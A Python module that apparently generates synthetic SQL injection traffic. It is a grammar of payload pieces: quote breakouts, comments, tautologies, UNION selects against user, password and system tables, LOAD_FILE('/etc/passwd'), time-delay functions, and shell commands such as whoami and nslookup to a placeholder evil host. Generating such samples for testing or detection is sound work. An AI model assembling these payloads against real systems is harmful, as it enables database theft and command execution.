"""Pieces of SQL injection: quotes, comments, conditions, columns, tables, waits, letter case."""

import random
import re

from traffic.grammars.attacks.pieces import Symbols

_KEYWORD = re.compile(r"\b[A-Z][A-Z_]+\b")


def cased(text: str, rng: random.Random) -> str:
    """SQL keywords (written in capitals here) in the case of one author."""
    style = rng.random()
    if style < 0.45:
        return _KEYWORD.sub(lambda word: word[0].lower(), text)
    return text if style < 0.85 else _KEYWORD.sub(lambda word: word[0].capitalize(), text)


# Tables: as many alternatives to a line as fit.
# fmt: off
SYMBOLS: Symbols = {
    "in": (
        "", "", "", "‹val›", "‹val›", "‹n›", "‹n›", "-‹n›", "‹id›", "‹rand›", "‹name›", "‹words›",
    ),
    "num": ("‹n›", "-‹n›", "0", "1", "1", "-1", "‹n›.0", "(‹n›)", "‹n›)", "‹n›))", "null", "‹nn›"),
    "q": ("'", "'", "'", "'", '"', '"', "')", "'))", '")', '"))', "`", "\\'", "%'", "';", "''"),
    "out": ("‹in›‹q›", "‹in›‹q›", "‹in›‹q›‹sp›", "‹num›"),
    "qq": ("'", "'", '"'),
    "cmt": (
        "--", "-- ", "-- -", "--+", "#", "/*", ";--", ";#", ";%00", "-- ‹id›", "--‹rnd›", "‹sp›#",
    ),
    "end": ("‹cmt›", "‹cmt›", "‹cmt›", "", " AND '‹abc#7›'='‹abc#7›", " AND ('‹abc#7›'='‹abc#7›"),
    "or": (
        "OR", "OR", "OR", "AND", "AND", "||", "&&", "XOR", "OR NOT", "AND NOT", "HAVING", "HAVING",
    ),
    "taut": (
        "1=1", "1=1", "1=2", "‹n#1›=‹n#1›", "‹n›=‹n›", "‹nn#1›=‹nn#1›", "'‹abc#1›'='‹abc#1›'",
        '"‹abc#1›"="‹abc#1›"', "'‹d#1›'='‹d#1›'", "‹d›<‹nn›", "‹nn›>‹d›", "‹d› BETWEEN 0 AND ‹nn›",
        "'‹abc#1›' LIKE '‹abc#1›'", "‹d#1› LIKE ‹d#1›", "‹d#1› IN (‹d#1›,‹n›)",
        "'‹abc#1›' IN ('‹abc#1›')", "1 IS NOT NULL", "NOT ‹d›=0", "‹d#1›<>‹d#1›‹d›",
        "(‹n#1›)=(‹n#1›)", "‹nn#1›=‹nn#1› AND ‹d#2›=‹d#2›", "LENGTH('‹abc›')>0", "ASCII('a')=97",
        "1=(SELECT 1)", "TRUE", "‹id› IS NOT NULL", "‹id› LIKE '%‹abc›%'",
        "EXISTS(SELECT * FROM ‹tbl›)", "‹d#1›=‹d#1›+0", "SUBSTRING(‹ver›,1,1)=‹d›",
        "(SELECT COUNT(*) FROM ‹tbl›)>0", "MOD(‹nn›,‹d›)=‹d›", "1 RLIKE 1",
        "'‹abc#1›' REGEXP '^‹abc#1›'",
    ),
    "tbl": (
        "users", "user", "admin", "members", "accounts", "‹id›", "‹id›s", "wp_users",
        "information_schema.tables", "information_schema.columns", "information_schema.schemata",
        "mysql.user", "sysobjects", "sys.databases", "master..sysdatabases", "all_tables",
        "pg_user", "pg_catalog.pg_tables", "sqlite_master", "sysibm.sysdummy1", "dual", "v$version",
        "rdb$database",
    ),
    "col": (
        "username", "password", "passwd", "user", "pass", "email", "login", "name", "table_name",
        "column_name", "schema_name", "‹id›", "*", "‹ver›", "banner", "user_pass",
        "CONCAT(‹id›,0x3a,‹id›)", "GROUP_CONCAT(‹id›)",
        "GROUP_CONCAT(table_name SEPARATOR 0x‹hex2›)", "‹id›||':'||password", "sql", "credit_card",
        "CAST(‹id› AS CHAR)",
    ),
    "ver": (
        "@@version", "VERSION()", "USER()", "DATABASE()", "CURRENT_USER", "@@datadir", "@@hostname",
        "@@servername", "SYSTEM_USER", "DB_NAME()", "sqlite_version()", "session_user",
        "current_setting('is_superuser')", "SYS_CONTEXT('USERENV','CURRENT_USER')",
    ),
    "u": (
        "NULL", "‹d›", "‹nn›", "'‹abc›'", "‹ver›", "CHAR(‹nc›,‹nc›,‹nc›)", "0x‹hex›", "‹col›",
        "CHR(‹nc›)||CHR(‹nc›)", "LOAD_FILE('/etc/passwd')", "CONCAT(0x‹hex›,‹ver›,0x‹hex›)",
        "MD5(‹nn›)", "@@version",
    ),
    "nc": lambda rng: str(rng.randint(48, 122)),
    "nulls": lambda rng: ",".join(["NULL"] * rng.randint(1, 14)),
    "seq": lambda rng: ",".join(str(i) for i in range(1, rng.randint(2, 20))),
    "cols": (
        "‹u›", "‹u›,‹u›", "‹u›,‹u›,‹u›", "‹seq›", "‹nulls›", "‹nulls›,‹u›", "‹seq›,‹u›", "‹col›",
    ),
    "all": ("", "", "ALL ", "DISTINCT ", "ALL(", "/*!‹nn›ALL*/ "),
    "sub": (
        "SELECT ‹col› FROM ‹tbl›", "SELECT ‹col› FROM ‹tbl› LIMIT ‹d›,1",
        "SELECT ‹col› FROM ‹tbl› LIMIT 1 OFFSET ‹n›", "SELECT ‹ver›",
        "SELECT ‹col› FROM ‹tbl› WHERE ‹id›='‹id›'", "SELECT TOP 1 ‹col› FROM ‹tbl›",
        "SELECT ‹col› FROM ‹tbl› WHERE rownum=‹d›", "SELECT COUNT(*) FROM ‹tbl›",
    ),
    "heavy": ("‹nn›00000", "‹d›000000", "‹d›00000000"),
    "op": ("=", "<", ">", "!=", ">=", "<=", " LIKE ", "<>"),
    "user": (
        "admin", "admin", "administrator", "root", "‹name›", "‹name›", "‹name›@‹word›.com", "‹id›",
    ),
    "chr": ("CHR(‹nc›)", "CHR(‹nc›)||CHR(‹nc›)", "CHR(‹nc›)||CHR(‹nc›)||CHR(‹nc›)||CHR(‹nc›)"),
    "shell": (
        "dir", "whoami", "ping ‹ip›", "net user", "ping -n ‹secs› 127.0.0.1", "nslookup ‹evil›",
    ),
    "wait": (
        "SLEEP(‹secs›)", "PG_SLEEP(‹secs›)", "BENCHMARK(‹heavy›,MD5(‹n›))",
        "DBMS_PIPE.RECEIVE_MESSAGE('‹abc›',‹secs›)", "RANDOMBLOB(‹heavy›)",
    ),
}
